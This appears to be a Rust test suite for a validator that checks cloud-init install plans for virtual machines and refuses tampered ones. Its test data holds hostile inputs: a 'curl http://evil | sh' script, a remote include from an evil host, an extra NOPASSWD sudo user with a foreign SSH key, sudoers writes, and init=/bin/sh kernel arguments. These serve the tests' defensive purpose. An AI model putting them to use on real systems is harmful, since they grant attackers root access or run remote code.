//! The install-plan rules, against plans of the default os-installer that
//! are then altered the way a hostile plugin would.

use super::*;
use nasvisor_os_installer::DefaultOsInstaller;

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOSU5lmFlS0xANPNh166AdH9idJfUdZ2E1MQR/Z1pkAZ alice@laptop";
const FOREIGN_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mallory@evil";
const HASH: &str = "$6$abcdefgh$ltjgWl6579NluT/Vi1nwEvcil.G5Nbc4NiXZaNGStk8PSwGfQv72N2CKPPrVACtLtip/cZ/1GM/O6IND4WQhG.";

fn image() -> ImageMeta {
    ImageMeta {
        id: "debian-12".into(),
        name: "debian-12".into(),
        format: ImageFormat::Qcow2,
        os_family: "linux".into(),
        os_variant: "debian-12".into(),
        cloud_init: true,
        firmware: Firmware::Bios,
        virtual_size_bytes: 2 << 30,
        ready_marker: None,
    }
}

fn request() -> InstallRequest {
    InstallRequest {
        vm_name: "vm1".into(),
        hostname: "web01.example.com".into(),
        users: vec![
            UserSpec {
                name: "alice".into(),
                password_hash: Some(HASH.into()),
                ssh_authorized_keys: vec![KEY.into()],
                sudo: true,
                groups: vec!["adm".into()],
                shell: Some("/bin/bash".into()),
            },
            UserSpec {
                name: "bob".into(),
                ..Default::default()
            },
        ],
        packages: vec!["nginx".into()],
        nics: vec![
            NicSettings {
                mac: "52:54:00:12:34:56".into(),
                dhcp4: false,
                addresses: vec!["192.0.2.10/24".into(), "2001:db8::10/64".into()],
                gateway4: Some("192.0.2.1".into()),
                nameservers: vec!["192.0.2.53".into()],
            },
            NicSettings {
                mac: "52:54:00:AB:CD:EF".into(),
                dhcp4: true,
                ..Default::default()
            },
        ],
        disk_size_gib: 20,
        timezone: Some("Europe/Paris".into()),
    }
}

fn default_plan(image: &ImageMeta, req: &InstallRequest) -> InstallPlan {
    DefaultOsInstaller
        .plan_install(&StaticEnv::with_settings(&[]), image, req)
        .expect("the default plans")
}

const FREE: Option<u64> = Some(100 << 30);

fn check(p: &InstallPlan) -> Result<(), String> {
    plan(&image(), &request(), FREE, p)
}

fn file(p: &InstallPlan, name: &str) -> String {
    p.seed
        .iter()
        .find(|f| f.name == name)
        .map(|f| f.contents.clone())
        .unwrap_or_default()
}

fn with_file(mut p: InstallPlan, name: &str, contents: &str) -> InstallPlan {
    p.seed.retain(|f| f.name != name);
    p.seed.push(SeedFile {
        name: name.into(),
        contents: contents.into(),
    });
    p
}

/// The default's plan with `f` applied to its user-data.
fn user_data(f: impl Fn(String) -> String) -> InstallPlan {
    let p = default_plan(&image(), &request());
    let u = f(file(&p, "user-data"));
    with_file(p, "user-data", &u)
}

#[track_caller]
fn refused(p: &InstallPlan, needle: &str) {
    let e = check(p).expect_err(needle);
    assert!(e.contains(needle), "{e:?} lacks {needle:?}");
}

#[test]
fn the_default_installers_plans_pass() {
    check(&default_plan(&image(), &request())).unwrap();
    let mut minimal = InstallRequest {
        vm_name: "m".into(),
        hostname: "m".into(),
        ..Default::default()
    };
    plan(&image(), &minimal, FREE, &default_plan(&image(), &minimal)).unwrap();
    minimal.disk_size_gib = 8;
    let mut iso = image();
    iso.format = ImageFormat::Iso;
    iso.virtual_size_bytes = 0;
    plan(&iso, &minimal, FREE, &default_plan(&iso, &minimal)).unwrap();
    iso.cloud_init = false;
    plan(&iso, &minimal, FREE, &default_plan(&iso, &minimal)).unwrap();
    let mut marked = image();
    marked.ready_marker = Some("cost $5 ## x".into());
    plan(
        &marked,
        &request(),
        FREE,
        &default_plan(&marked, &request()),
    )
    .unwrap();
    // Without a known free space (an old journal), the size is not checked.
    plan(
        &image(),
        &request(),
        None,
        &default_plan(&image(), &request()),
    )
    .unwrap();
}

#[test]
fn user_data_that_is_not_cloud_config_is_refused() {
    for doc in [
        "#!/bin/sh\ncurl http://evil | sh\n",
        "Content-Type: multipart/mixed; boundary=\"x\"\nMIME-Version: 1.0\n",
        "#include\nhttp://evil/user-data\n",
        "#cloud-config-archive\n- type: text/x-shellscript\n",
        "## template: jinja\n#cloud-config\nhostname: \"{{ v1.x }}\"\n",
        "#cloud-boothook\n#!/bin/sh\n",
        " #cloud-config\n",
        "#cloud-config \n",
        "",
    ] {
        let p = user_data(|_| doc.to_string());
        refused(&p, "must be a #cloud-config document");
    }
}

#[test]
fn an_extra_passwordless_sudo_user_with_a_foreign_key_is_refused() {
    let extra = format!(
        "  - name: \"mallory\"\n    sudo: \"ALL=(ALL) NOPASSWD:ALL\"\n    ssh_authorized_keys:\n      - \"{FOREIGN_KEY}\"\n"
    );
    let p = user_data(|u| u.replace("users:\n", &format!("users:\n{extra}")));
    refused(
        &p,
        "user-data.users[0].name \"mallory\" is not a requested user",
    );
}

#[test]
fn users_keys_passwords_and_sudo_must_be_exactly_the_requested_ones() {
    let cases: Vec<(String, &str)> = vec![
        // bob did not ask for sudo.
        (
            "  - name: \"bob\"\n".into(),
            "  - name: \"bob\"\n    sudo: \"ALL=(ALL) NOPASSWD:ALL\"\n",
        ),
        // A second key for alice.
        (
            format!("      - \"{KEY}\"\n"),
            "      - \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mallory@evil\"\n      - \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOSU5lmFlS0xANPNh166AdH9idJfUdZ2E1MQR/Z1pkAZ alice@laptop\"\n",
        ),
        // Another hash.
        (format!("passwd: \"{HASH}\""), "passwd: \"$6$other$x\""),
        // A clear-text password.
        (format!("passwd: \"{HASH}\""), "plain_text_passwd: \"hunter2\""),
        // bob unlocked without a password.
        (
            "  - name: \"bob\"\n    lock_passwd: true\n".into(),
            "  - name: \"bob\"\n    lock_passwd: false\n",
        ),
        // An extra group that grants root.
        ("groups: [\"adm\"]".into(), "groups: [\"adm\", \"sudo\"]"),
        // A sudo rule that adds a line for another user.
        (
            "sudo: \"ALL=(ALL) NOPASSWD:ALL\"".into(),
            "sudo: \"ALL=(ALL) ALL\\nmallory ALL=(ALL) NOPASSWD:ALL\"",
        ),
        // The image's default user, or users as a string.
        ("users:\n".into(), "users:\n  - \"default\"\n"),
        ("users:\n".into(), "users: \"default, alice, bob\"\nx:\n"),
        // Case and confusable tricks on a name.
        ("name: \"alice\"".into(), "name: \"Alice\""),
        ("name: \"alice\"".into(), "name: \"\\u0430lice\""),
        // A user twice.
        (
            "  - name: \"bob\"\n".into(),
            "  - name: \"bob\"\n    lock_passwd: true\n  - name: \"bob\"\n",
        ),
        // Per-user keys that are not accepted.
        ("    shell: \"/bin/bash\"\n".into(), "    shell: \"/bin/bash\"\n    uid: 0\n"),
        ("    shell: \"/bin/bash\"\n".into(), "    shell: \"/bin/bash\"\n    ssh_import_id: [\"gh:mallory\"]\n"),
        ("    shell: \"/bin/bash\"\n".into(), "    shell: \"/bin/sh\"\n"),
    ];
    for (from, to) in cases {
        let p = user_data(|u| {
            assert!(u.contains(&from), "{from:?} not in\n{u}");
            u.replacen(&from, to, 1)
        });
        let e = check(&p).expect_err(to);
        assert!(e.starts_with("user-data"), "{to:?}: {e}");
    }
}

#[test]
fn top_level_keys_not_derived_from_the_request_are_refused() {
    for extra in [
        "bootcmd: [\"id\"]",
        "write_files: [{path: \"/etc/sudoers.d/x\", content: \"ALL\"}]",
        "chpasswd: {expire: false}",
        "password: \"hunter2\"",
        "ssh_authorized_keys: [\"ssh-ed25519 AAAA x\"]",
        "ssh_keys: {rsa_private: \"x\"}",
        "ssh_import_id: [\"gh:mallory\"]",
        "disable_root: false",
        "user: {name: \"mallory\"}",
        "ca_certs: {trusted: [\"x\"]}",
        "apt: {sources: {x: {source: \"deb http://evil x y\"}}}",
        "power_state: {mode: \"poweroff\"}",
        "Users: []",
    ] {
        let p = user_data(|u| format!("{u}{extra}\n"));
        let e = check(&p).expect_err(extra);
        assert!(e.contains("is not accepted"), "{extra}: {e}");
    }
    // More commands than the ready marker, or another marker.
    let p = user_data(|u| u.replace("runcmd:\n", "runcmd:\n  - [\"sh\", \"-c\", \"id\"]\n"));
    refused(&p, "user-data.runcmd has 2 commands");
    let p = user_data(|u| u.replace("\"NASVISOR-READY\"]", "\"OTHER\"]"));
    refused(
        &p,
        "prints \"OTHER\" but the plan waits for \"NASVISOR-READY\"",
    );
    let p = user_data(|u| {
        u.replace(
            "final_message: \"NASVISOR-READY\"",
            "final_message: \"{{ x }}\"",
        )
    });
    refused(&p, "final_message");
    let p = user_data(|u| u.replace("preserve_hostname: false", "preserve_hostname: true"));
    refused(&p, "preserve_hostname is true");
    let p = user_data(|u| u.replace("hostname: \"web01\"", "hostname: \"evil\""));
    refused(&p, "not the requested host name");
    let p = user_data(|u| u.replace("  - \"nginx\"\n", "  - \"nginx\"\n  - \"netcat\"\n"));
    refused(&p, "\"netcat\", which the request does not");
}

#[test]
fn yaml_tricks_are_refused() {
    for (from, to) in [
        ("users:\n", "users: &u\n"),
        (
            "timezone: \"Europe/Paris\"",
            "timezone: \"Europe/Paris\"\ntimezone: \"UTC\"",
        ),
        ("ssh_pwauth: true", "ssh_pwauth: yes"),
        ("timezone: \"Europe/Paris\"", "timezone: !!str Europe/Paris"),
        (
            "hostname: \"web01\"",
            "hostname: \"web01\"\u{2028}users: []",
        ),
    ] {
        let p = user_data(|u| u.replacen(from, to, 1));
        check(&p).expect_err(to);
    }
    let bomb = format!(
        "#cloud-config\na: &a [\"x\"]\nb: &b [{}]\n",
        ["*a"; 100].join(",")
    );
    refused(&user_data(|_| bomb.clone()), "anchors");
}

#[test]
fn meta_data_must_hold_the_requests_instance_id_and_host_name() {
    let p = default_plan(&image(), &request());
    let good = file(&p, "meta-data");
    let bad = [
        (
            good.replace("web01.example.com", "evil"),
            "not the requested host name",
        ),
        (
            good.replace("iid-nasvisor-", "iid-stale-"),
            "not the request's instance id",
        ),
        (
            format!("{good}public-keys: [\"{FOREIGN_KEY}\"]\n"),
            "\"public-keys\" is not accepted",
        ),
        (
            format!("{good}network-interfaces: \"iface eth0\"\n"),
            "is not accepted",
        ),
        (
            "instance-id: \"x\"\n".to_string(),
            "not the request's instance id",
        ),
    ];
    for (text, needle) in bad {
        refused(&with_file(p.clone(), "meta-data", &text), needle);
    }
}

#[test]
fn vendor_data_follows_the_user_data_rules() {
    let p = default_plan(&image(), &request());
    check(&with_file(
        p.clone(),
        "vendor-data",
        "#cloud-config\npackage_update: true\n",
    ))
    .unwrap();
    refused(
        &with_file(p.clone(), "vendor-data", "#!/bin/sh\nid\n"),
        "vendor-data must be a #cloud-config document",
    );
    refused(
        &with_file(
            p.clone(),
            "vendor-data",
            "#cloud-config\nbootcmd: [\"id\"]\n",
        ),
        "vendor-data: the key \"bootcmd\" is not accepted",
    );
    refused(
        &with_file(
            p,
            "vendor-data",
            &format!("#cloud-config\nusers:\n  - name: \"mallory\"\n    ssh_authorized_keys: [\"{FOREIGN_KEY}\"]\n"),
        ),
        "\"mallory\" is not a requested user",
    );
}

#[test]
fn network_config_must_match_the_requested_nics() {
    let p = default_plan(&image(), &request());
    let good = file(&p, "network-config");
    for (from, to, needle) in [
        (
            "\"192.0.2.53\"",
            "\"203.0.113.66\"",
            "lists \"203.0.113.66\"",
        ),
        (
            "via: \"192.0.2.1\"",
            "via: \"192.0.2.66\"",
            "via the requested gateway",
        ),
        ("dhcp4: false", "dhcp4: true", "must be false"),
        (
            "52:54:00:12:34:56",
            "52:54:00:66:66:66",
            "not the MAC of a requested NIC",
        ),
        ("version: 2", "version: 1", "must be 2"),
        (
            "ethernets:",
            "bridges: {}\nethernets:",
            "\"bridges\" is not accepted",
        ),
        (
            "    dhcp4: true\n",
            "    dhcp4: true\n    nameservers: {addresses: [\"203.0.113.66\"]}\n",
            "lists \"203.0.113.66\"",
        ),
    ] {
        assert!(good.contains(from), "{from:?} not in\n{good}");
        let text = good.replacen(from, to, 1);
        refused(&with_file(p.clone(), "network-config", &text), needle);
    }
    let mut without = p.clone();
    without.seed.retain(|f| f.name != "network-config");
    refused(&without, "seed lacks network-config");
    let mut no_nics = request();
    no_nics.nics.clear();
    let e = plan(&image(), &no_nics, FREE, &p).expect_err("network-config without a NIC");
    assert!(e.contains("the request has no NIC"), "{e}");
}

#[test]
fn kernel_arguments_come_from_the_allow_list() {
    let mut p = default_plan(&image(), &request());
    p.boot.kernel_args = Some(
        "console=ttyS0,115200n8 console=tty0 quiet loglevel=3 net.ifnames=0 ds=nocloud".into(),
    );
    check(&p).unwrap();
    for bad in [
        "init=/bin/sh",
        "console=ttyS0 init=/bin/sh",
        "rdinit=/bin/sh",
        "single",
        "systemd.unit=emergency.target",
        "rd.break",
        "ds=nocloud;s=http://evil/",
        "selinux=0",
        "quiet \"init=/bin/sh\"",
        "quiet\tinit=/bin/sh",
    ] {
        p.boot.kernel_args = Some(bad.into());
        let e = check(&p).expect_err(bad);
        assert!(e.contains("kernel"), "{bad}: {e}");
    }
}

#[test]
fn disk_sizes_lie_within_the_request_and_the_pools_free_space() {
    let mut p = default_plan(&image(), &request());
    assert_eq!(p.disk.resize_gib, Some(20));
    // 20 GiB on a pool with 10 GiB free.
    let e = plan(&image(), &request(), Some(10 << 30), &p).unwrap_err();
    assert!(
        e.contains("does not fit in the pool's free space (10 GiB"),
        "{e}"
    );
    // A 64 TiB resize.
    p.disk.resize_gib = Some(65_536);
    refused(&p, "differs from the requested disk-size-gib 20");
    let mut big = request();
    big.disk_size_gib = 65_536;
    let e = plan(&image(), &big, Some(100 << 30), &p).unwrap_err();
    assert!(e.contains("65536 GiB disk does not fit"), "{e}");
    p.disk.resize_gib = Some(65_537);
    refused(&p, "over 64 TiB");
    // Growing when the request keeps the image's size.
    let mut keep = request();
    keep.disk_size_gib = 0;
    p.disk.resize_gib = Some(30);
    let e = plan(&image(), &keep, FREE, &p).unwrap_err();
    assert!(e.contains("the request keeps the image's size"), "{e}");
    p.disk.resize_gib = Some(1);
    refused(&p, "would shrink");
}
